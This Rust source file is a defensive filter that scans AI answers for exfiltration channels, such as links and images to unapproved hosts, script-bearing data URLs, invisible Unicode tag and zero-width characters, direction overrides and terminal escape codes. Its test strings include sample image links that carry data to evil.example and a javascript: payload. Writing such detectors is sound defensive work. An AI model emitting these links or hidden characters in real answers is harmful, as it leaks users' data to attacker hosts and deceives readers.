//! What an answer could carry out of the house or hide in it: links and pictures to hosts that nobody allowed, characters that
//! nobody sees, sequences that terminals obey.
//!
//! A link is made harmless by taking its host: what is left of it leads nowhere, and nothing but a host is ever held back.

use super::{Check, Context, Edge, Rule, Set};

/// Hosts that links and pictures in answers may lead to.
#[derive(Debug, Clone, Default)]
pub struct AllowedHosts {
    patterns: Vec<Pattern>,
}

#[derive(Debug, Clone)]
struct Pattern {
    host: String,
    below: bool,
}

impl AllowedHosts {
    /// Reads host names; `*.` before one admits every host below it, and not itself.
    pub fn new<'p>(patterns: impl IntoIterator<Item = &'p str>) -> Self {
        let patterns = patterns
            .into_iter()
            .map(|pattern| match pattern.strip_prefix("*.") {
                Some(host) => Pattern { host: host.to_ascii_lowercase(), below: true },
                None => Pattern { host: pattern.to_ascii_lowercase(), below: false },
            })
            .collect();
        Self { patterns }
    }

    /// Whether the beginning of a URL, up to the end of its authority, leads to an allowed host. What cannot be read as a
    /// plain host with a plain port is none: browsers do not agree about the rest.
    pub(super) fn allow(&self, url: &[u8]) -> bool {
        let Ok(url) = std::str::from_utf8(url) else { return false };
        let authority = url.rsplit(['/', '\\']).next().unwrap_or_default();
        let (host, port) = authority.split_once(':').unwrap_or((authority, "443"));
        let host = host.strip_suffix('.').unwrap_or(host).to_ascii_lowercase();
        let is_plain = host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.'));
        is_plain
            && port.bytes().all(|byte| byte.is_ascii_digit())
            && self.patterns.iter().any(|pattern| match host.strip_suffix(&*pattern.host) {
                Some("") => !pattern.below,
                Some(rest) => pattern.below && rest.ends_with('.') && rest.len() > 1,
                None => false,
            })
    }
}

/// The beginning of a URL as browsers read it: `https://host`, `//host`, `https:/host`, `https:\\host`.
const ORIGIN: &str = r"(?:(?i:https?|ftp|wss?):[/\\]{0,8}|[/\\]{2,8})[^\x00-\x20/\\?#\x22'`<>()|^\x7f]{1,300}";

/// The rules for what goes out.
pub static RULES: &[Rule] = &[
    Rule::new(
        Set::Exfiltration,
        "markdown-link",
        "markdown-link",
        "link or picture in Markdown to a host that is not allowed",
        ORIGIN,
        &[
            "![logo](«https://evil.example»/x.png?q=c2VjcmV0)",
            "see [here]( «//evil.example»/a)",
            "[a](<«https:\\\\evil.example»\\x>)",
            "[ref]: «http://evil.example:8080»/path",
            "[user](«https://good.example@evil.example»/)",
        ],
        &["[docs](/docs/page.md)", "[docs](#part)", "see https://elsewhere.example/ for more", "[mail](mailto:a@b.example)"],
    )
    .context(Context::Behind(&["](", "]( ", "](<", "]( <", "]: ", "]:", "]: <"]))
    .edges(Edge::Open, Edge::Authority)
    .check(Check::ForeignHost),
    Rule::new(
        Set::Exfiltration,
        "html-link",
        "html-link",
        "link or picture in HTML or CSS to a host that is not allowed",
        ORIGIN,
        &[
            "<img src=\"«https://evil.example»/p?d=1\">",
            "<a HREF='«//evil.example»/'>x</a>",
            "<iframe src=«http://evil.example»/>",
            "background: url(«https://evil.example»/i.png)",
            "<form action=\"«https://evil.example»\">",
        ],
        &["<img src=\"/local.png\">", "<img alt=\"https://evil.example/\">", "<a href=\"#top\">"],
    )
    .context(Context::Behind(&[
        "src=\"", "src='", "src=", "href=\"", "href='", "href=", "srcset=\"", "srcset='", "srcset=", "action=\"", "action='",
        "action=", "data=\"", "data='", "poster=\"", "poster='", "poster=", "background=\"", "background='", "cite=\"",
        "ping=\"", "ping='", "url(", "url(\"", "url('", "url( ", "url=", "@import \"", "@import '",
    ]))
    .edges(Edge::Open, Edge::Authority)
    .check(Check::ForeignHost),
    Rule::new(
        Set::Exfiltration,
        "autolink",
        "autolink",
        "bare URL to a host that is not allowed, which many clients make a link of",
        r"(?i:https?|ftp|wss?):[/\\]{1,8}[^\x00-\x20/\\?#\x22'`<>()|^\x7f]{1,300}",
        &["send it to «https://evil.example»/collect?d=1", "<«http://evil.example»>", "(«https://evil.example»)"],
        &["https is a scheme", "see RFC 9110"],
    )
    .edges(Edge::Word, Edge::Authority)
    .check(Check::ForeignHost),
    Rule::new(
        Set::Exfiltration,
        "data-url",
        "data-url",
        "picture or page inside a URL, in which a script can hide",
        r"(?i:data:(?:text/html|image/svg\+xml|application/xhtml\+xml)|(?:java|vb)script:)",
        &["[x](«javascript:»alert(1))", "<a href=\"«data:text/html»;base64,PHA+\">"],
        &["data: text", "JavaScript is a language", "data:image/png;base64,iVBO"],
    )
    .edges(Edge::Word, Edge::Open)
    .context(Context::Behind(&["](", "]( ", "](<", "]: ", "\"", "'", "=", "("])),
    Rule::new(
        Set::Exfiltration,
        "unicode-tags",
        "unicode-tags",
        "characters of the tag block, which nobody sees and models read",
        r"(?u:[\x{E0000}-\x{E007F}])",
        &["hello«\u{e0068}\u{e0069}» there", "«\u{e0001}»x", "🏴\u{e0078}«\u{e0079}»"],
        &["hello", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} is England's flag", "🇩🇪"],
    )
    .context(Context::Other("not in a flag of England, Scotland or Wales", |_| true, is_outside_flags))
    .edges(Edge::Open, Edge::Open),
    Rule::new(
        Set::Exfiltration,
        "zero-width-run",
        "zero-width-run",
        "three or more characters without width in a row",
        r"(?u:[\x{AD}\x{34F}\x{61C}\x{115F}\x{1160}\x{17B4}\x{17B5}\x{180B}-\x{180F}\x{200B}-\x{200F}\x{2060}-\x{2064}\x{206A}-\x{206F}\x{3164}\x{FEFF}\x{FFA0}]{3})",
        &["a«\u{200b}\u{200c}\u{200d}»b", "a«\u{2060}\u{2060}\u{2060}\u{2060}\u{2060}»"],
        &["👩\u{200d}👩\u{200d}👧", "می\u{200c}خواهم", "\u{feff}text", "a\u{200b}\u{200b}b"],
    )
    .edges(Edge::Open, Edge::Open),
    Rule::new(
        Set::Exfiltration,
        "variation-selectors",
        "variation-selectors",
        "two or more variation selectors in a row, in which bytes can hide",
        r"(?u:[\x{FE00}-\x{FE0F}\x{E0100}-\x{E01EF}]{2})",
        &["😀«\u{e0158}\u{e0155}\u{e015c}»"],
        &["❤\u{fe0f}", "葛\u{e0100}"],
    )
    .edges(Edge::Open, Edge::Open),
    Rule::new(
        Set::Exfiltration,
        "bidi-override",
        "bidi-override",
        "embeddings and overrides of direction, which make text read otherwise than it is",
        r"(?u:[\x{202A}\x{202B}\x{202D}\x{202E}])",
        &["user«\u{202e}»nimda"],
        &["\u{2067}שלום\u{2069}", "שלום", "مرحبا\u{200f}"],
    )
    .edges(Edge::Open, Edge::Open),
    Rule::new(
        Set::Exfiltration,
        "terminal-escape",
        "terminal-escape",
        "control sequences that a terminal obeys (ECMA-48)",
        r"\x1b(?:\[[0-?]{0,32}[ -/]{0,8}[@-~]?|[\]PX^_]|[ -/]{0,8}[0-~]?)|\xc2[\x80-\x9f]",
        &["«\u{1b}[31m»red«\u{1b}[0m»", "«\u{1b}]»0;title\u{7}", "«\u{9b}»31m", "«\u{1b}c»"],
        &["[31m", "tabs\tand\r\nlines", "© ®"],
    )
    .edges(Edge::Open, Edge::Open),
];

/// Whether the window ends elsewhere than in one of the three flags that are spelt with tag characters.
fn is_outside_flags(window: &[u8]) -> bool {
    const FLAG: &str = "🏴";
    let text = String::from_utf8_lossy(window);
    let Some((_, spelt)) = text.rsplit_once(FLAG) else { return true };
    let flags = [
        "\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
        "\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}",
    ];
    // One more character must fit, so a flag that is complete has no room for it.
    !flags.iter().any(|flag| flag.starts_with(spelt) && flag.len() > spelt.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_allowed_hosts_are_allowed() {
        let allowed = AllowedHosts::new(["docs.corp.example", "*.cdn.example"]);
        let check = |url: &str, expected| assert_eq!(allowed.allow(url.as_bytes()), expected, "{url}");
        for url in [
            "https://docs.corp.example",
            "HTTPS://DOCS.corp.example:8443",
            "//a.cdn.example",
            "https://a.b.cdn.example.",
        ] {
            check(url, true);
        }
        for url in [
            "https://corp.example",
            "https://cdn.example",
            "https://.cdn.example",
            "https://evilcdn.example",
            "https://docs.corp.example@evil.example",
            "https://docs.corp.example:x@evil.example",
            "https://docs.corp.example.evil.example",
            "https://docs.corp.exаmple",
            "https://docs.corp.example%2eevil.example",
            "https://",
            "",
        ] {
            check(url, false);
        }
        assert!(!AllowedHosts::default().allow(b"https://docs.corp.example"));
    }
}
